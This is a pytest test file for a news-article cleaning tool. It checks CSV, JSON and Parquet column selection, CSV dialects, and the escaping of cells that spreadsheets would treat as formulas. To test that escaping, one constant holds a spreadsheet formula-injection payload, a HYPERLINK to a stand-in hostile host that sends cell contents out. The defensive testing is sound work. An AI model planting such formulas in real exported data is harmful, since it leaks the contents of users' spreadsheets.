"""Which columns and fields are written, in which dialect of CSV; cells that are no formulas."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from command import Result
from hypothesis import given
from hypothesis import strategies as st
from invented import text

import beritaclean
from beritaclean import Reading, records
from beritaclean.commands.main import main
from beritaclean.errors import SchemaError
from beritaclean.outputs import FORMS, arrow, flat
from beritaclean.outputs import json as json_output
from beritaclean.outputs.about import About
from beritaclean.outputs.layout import Layout, columns_of, writer_of
from beritaclean.records.record import Meter, Raw, Reject

Run = Callable[..., Result]
HOSTILE = '=HYPERLINK("http://jahat.id?"&A1)'


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Run:
    """Run the command in a folder with three records."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("BERITACLEAN_WORKERS", "0")
    rows = [
        {"id": f"b{n}", "text": text(n), "url": f"https://kabar.id/{n}", "rubrik": rubrik, "-x": n}
        for n, rubrik in enumerate((HOSTILE, "Desa", -1.5))
    ]
    Path("k.jsonl").write_text("".join(f"{json.dumps(row)}\n" for row in rows), encoding="utf-8")

    def go(*argv: str) -> Result:
        capsys.readouterr()
        status = main(["clean", "k.jsonl", "-q", *argv])
        return Result(status, *capsys.readouterr())

    return go


def table(written: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(written, newline=""), delimiter=delimiter))


# --- columns and fields --------------------------------------------------------------------------


def test_columns_come_as_they_are_asked_for(run: Run) -> None:
    whole = table(run("-f", "csv", "--carry", "rubrik").out)
    some = table(
        run("-f", "csv", "--carry", "rubrik", "--columns", "text,rubrik", "--columns", "id").out
    )
    names = whole[0]
    assert some == [[row[names.index(name)] for name in ("text", "rubrik", "id")] for row in whole]


@pytest.mark.parametrize("form", ["json", "jsonl"])
def test_fields_come_as_they_are_asked_for(run: Run, form: str) -> None:
    asked = ("published", "id", "doubts", "place", "rubrik", "schema", "language", "input_x")
    argv = ("-f", form, "--carry", "rubrik", "--carry", "x")
    out = run(*argv, "--fields", ",".join(asked[:-1])).out
    rows = json.loads(out) if form == "json" else [json.loads(line) for line in out.splitlines()]
    whole = run("-f", "jsonl", "--carry", "rubrik").out.splitlines()
    for row, line in zip(rows, whole, strict=True):
        found = json.loads(line)
        assert tuple(row) == asked[:-1]
        assert row["doubts"] == found["quality"]["doubts"]
        assert row["place"] == found["dateline"]["place"]
        for name in ("published", "id", "rubrik", "schema", "language"):
            assert row[name] == found[name]


def test_what_is_not_known_is_null_and_there() -> None:
    write = writer_of("jsonl", Layout(fields=("title", "rubrik", "place")))
    row = json.loads(write(beritaclean.clean("Hujan turun."), About()))
    assert row == {"title": None, "rubrik": None, "place": None}


def test_each_field_that_there_is_can_be_asked_for() -> None:
    article = beritaclean.clean(text(1))
    row = json.loads(json_output.writer(json_output.FIELDS)(article, About(id="17")))
    assert tuple(row) == json_output.FIELDS
    whole = json.loads(json_output.write(article, About(id="17")))
    assert {name: row[name] for name in whole} == whole


def test_a_carried_field_has_one_name_with_fields() -> None:
    names = columns_of("jsonl", ["place", "rubrik"])
    assert names[-2:] == ("input_place", "rubrik")
    write = writer_of("jsonl", Layout(fields=("place", "input_place")))
    about = About(carried={"place": "Desa"})
    row = json.loads(write(beritaclean.clean("SOLO, KOMPAS.com - Pasar itu dibuka lagi."), about))
    assert row == {"place": "SOLO", "input_place": "Desa"}


def test_columns_of_parquet_are_those_of_its_schema(run: Run) -> None:
    asked = ["published_offset", "title", "rubrik", "language"]
    argv = ("-o", "a.parquet", "--carry", "rubrik", "--columns", ",".join(asked))
    assert run(*argv).status == 0
    some = pq.read_table("a.parquet")
    run("-o", "b.parquet", "--carry", "rubrik")
    whole = pq.read_table("b.parquet")
    assert some.schema.names == asked
    assert some.to_pylist() == whole.select(asked).to_pylist()
    with pytest.raises(SchemaError):
        list(arrow.articles(some))


LISTED = "There are id, url, domain"
WRONG = [
    (
        "-f csv --columns titel",
        f"--columns: there is no column 'titel'; did you mean title? {LISTED}",
    ),
    ("-f csv --columns zzz", "--columns: there is no column 'zzz'; there are id, url, domain"),
    ("-f csv --columns rubrik", "--columns: there is no column 'rubrik'; there are id, url"),
    (
        "-f jsonl --fields titel",
        "--fields: there is no field 'titel'; did you mean title? There are",
    ),
    (
        "-o x.parquet --columns places",
        "--columns: there is no column 'places'; there are id, text, paragraphs",
    ),
    (
        "-f csv --fields title",
        "--fields is for json and jsonl, and csv is written; write --columns",
    ),
    (
        "-f jsonl --columns title",
        "--columns is for csv, xlsx, sqlite and parquet, and jsonl is written; write --fields",
    ),
    (
        "--columns title",
        "--columns is for csv, xlsx, sqlite and parquet, and text is written; write -f csv",
    ),
    (
        "-f dolma --fields title",
        "--fields is for json and jsonl, and dolma is written; write -f json, or leave it out",
    ),
    (
        "-f jsonl --csv-dialect excel-id",
        "--csv-dialect is for csv, and jsonl is written; write -f csv, or leave it out",
    ),
    ("-f csv --csv-dialect excel", "Invalid value for '--csv-dialect': 'excel' is not one of"),
]


@pytest.mark.parametrize(("line", "message"), WRONG, ids=[line for line, _ in WRONG])
def test_a_wrong_wish_is_told(run: Run, line: str, message: str) -> None:
    found = run(*line.split())
    assert (found.status, found.out) == (2, "")
    assert found.last.startswith(message)
    assert not Path("x.parquet").exists()


# --- dialects ------------------------------------------------------------------------------------


def test_excel_in_indonesia_reads_its_own_signs(run: Run) -> None:
    argv = ("-f", "csv", "--csv-dialect", "excel-id", "--carry", "rubrik")
    run(*argv, "-o", "a.csv", "--columns", "published,kept,complete,rubrik,characters")
    written = Path("a.csv").read_bytes().decode()
    assert written.count("\ufeff") == 1
    assert written.endswith("\r\n")
    names, *rows = table(written.removeprefix("\ufeff"), ";")
    assert names == ["published", "kept", "complete", "rubrik", "characters"]
    for number, (published, kept, complete, rubrik, characters) in enumerate(rows):
        article = beritaclean.clean(text(number), url=f"https://kabar.id/{number}")
        assert article.published
        assert published == article.published.strftime("%d/%m/%Y %H:%M:%S")
        assert kept == str(article.quality.kept).replace(".", ",")
        assert (complete, characters) == ("TRUE", str(article.quality.characters))
        assert rubrik == ("'" + HOSTILE, "Desa", "-1,5")[number]


@pytest.mark.parametrize("output", ["a.csv", "a/", "a.csv.gz"])
def test_the_mark_stands_once_in_each_file(run: Run, output: str) -> None:
    argv = ("-f", "csv", "--csv-dialect", "excel-id", "--shard-size", "1", "-o", output)
    assert run(*argv).status == 0
    files = sorted(Path("a").glob("part-*")) if output == "a/" else [Path(output)]
    assert len(files) == (3 if output == "a/" else 1)
    for file in files:
        (source,) = records.sources([str(file)], Reading())
        assert isinstance(source, records.Source)
        if file.suffix == ".csv":
            data = file.read_bytes()
            assert data.startswith("\ufeffid;url;".encode())
            assert data.count("\ufeff".encode()) == 1
        found = list(records.read(source, Reading(), Meter()))
        assert len(found) == (1 if output == "a/" else 3)
        assert all(isinstance(raw, Raw) and "\ufeff" not in str(raw.data) for raw in found)


def read(path: Path, written: str) -> list[records.Record]:
    path.write_bytes(written.encode())
    reading = Reading(carry=("*",))
    (source,) = records.sources([str(path)], reading)
    assert not isinstance(source, Reject)
    rows = list(records.read(source, reading, Meter()))
    return [records.understand(raw, reading) for raw in rows if isinstance(raw, Raw)]


@pytest.mark.parametrize("dialect", flat.DIALECTS)
@pytest.mark.parametrize("zone", ["+07:00", "+08:00", "+09:00", "+00:00", "-03:30"])
def test_our_reader_reads_a_dialect_back(dialect: str, zone: str, tmp_path: Path) -> None:
    stories = ["Hujan; deras,\tturun | di desa.", '"Kami lega," kata dia.\nWarga pulang.', "Satu."]
    when = datetime.fromisoformat(f"2025-06-03T23:59:58{zone}")
    columns = ("title", "published", "url", "text")
    write = flat.writer(columns, dialect)
    written = flat.header(columns=columns, dialect=dialect)
    for number, story in enumerate(stories):
        article = beritaclean.clean(story, url=f"https://kabar.id/{number}", title="Judul; dua")
        written += write(
            beritaclean.Article.from_dict(
                {**article.to_dict(), "text": story, "published": when.isoformat()}
            ),
            About(),
        )
    found = read(tmp_path / "a.csv", written)
    assert [record.text for record in found] == stories
    assert [record.url for record in found] == [f"https://kabar.id/{n}" for n in range(3)]
    assert {record.title for record in found} == {"Judul; dua"}
    assert {record.published for record in found} == {when}


@pytest.mark.parametrize("dialect", flat.DIALECTS)
def test_one_column_is_read_back(dialect: str, tmp_path: Path) -> None:
    stories = ["Hujan, deras, turun.", "Hujan; deras | turun.", "Satu."]
    write = flat.writer(["text"], dialect)
    written = flat.header(columns=["text"], dialect=dialect)
    written += "".join(write(beritaclean.clean(story), About()) for story in stories)
    assert [record.text for record in read(tmp_path / "a.csv", written)] == stories


def test_days_at_the_ends_of_the_calendar_are_written() -> None:
    assert flat.local_time("0001-01-01T00:00:00+09:00") == datetime(1, 1, 1)  # noqa: DTZ001
    article = beritaclean.clean("Hujan turun.")
    old = beritaclean.Article.from_dict(
        {**article.to_dict(), "published": "0987-01-02T03:04:05+07:00"}
    )
    assert flat.writer(["published"], "excel-id")(old, About()) == "02/01/0987 03:04:05\r\n"


# --- cells that would be formulas ----------------------------------------------------------------

ACTIVE = "=+-@\t\r\n\0＝＋－＠"


@given(st.text(st.sampled_from(f"'{ACTIVE}a1 ")) | st.text())
def test_what_is_made_harmless_can_be_undone(cell: str) -> None:
    harmless = flat.escaped(cell)
    assert flat.unescaped(harmless) == cell
    assert not harmless.startswith(tuple(ACTIVE))
    # no two cells become one, and what needs nothing is as it was
    assert harmless == cell or cell.lstrip("'").startswith(tuple(ACTIVE))


def test_text_is_made_harmless_and_numbers_stay_numbers(run: Run) -> None:
    argv = ("-f", "csv", "--carry", "rubrik", "--carry=-x", "--columns=rubrik,-x,kept")
    names, *rows = table(run(*argv).out)
    assert names == ["rubrik", "'-x", "kept"]
    assert [row[0] for row in rows] == [f"'{HOSTILE}", "Desa", "-1.5"]
    assert [row[1] for row in rows] == ["0", "1", "2"]


def test_raw_leaves_them_as_they_are(run: Run) -> None:
    argv = ("-f", "csv", "--csv-dialect", "raw", "--carry", "rubrik", "--carry=-x")
    names, *rows = table(run(*argv, "--columns=rubrik,-x").out)
    assert names == ["rubrik", "-x"]
    assert rows[0] == [HOSTILE, "0"]


# --- forms ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", [form for form, row in FORMS.items() if not row.is_text])
def test_what_is_no_text_goes_down_no_pipe(run: Run, form: str) -> None:
    found = run("-f", form)
    assert found.status == 2
    assert found.last.endswith(
        f"cannot be written to a pipe; name a file with -o OUT{FORMS[form].suffix}"
    )


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        ("-o a.xlsx --compress gz", "a workbook is compressed inside; leave --compress out"),
        ("-o a.xlsx.gz", "a workbook is compressed inside; leave --compress out"),
        (
            "-o a.db --compress gz",
            "a database is added to, which a packed file cannot be; leave --compress out",
        ),
        ("-f sqlite -o arsip/", "a database is one file; name it with -o OUT.db"),
        (
            "-o a.xlsx --join-pages",
            "--join-pages writes rows as they come; leave --compress, Parquet, xlsx and sqlite out",
        ),
        ("-o a.xlsx --carry *", "xlsx needs its columns named; write --carry NAME for each"),
    ],
)
def test_a_form_says_what_it_cannot(run: Run, argv: str, message: str) -> None:
    found = run(*argv.split())
    assert (found.status, found.last) == (2, message)
    assert not list(Path().glob("a*"))
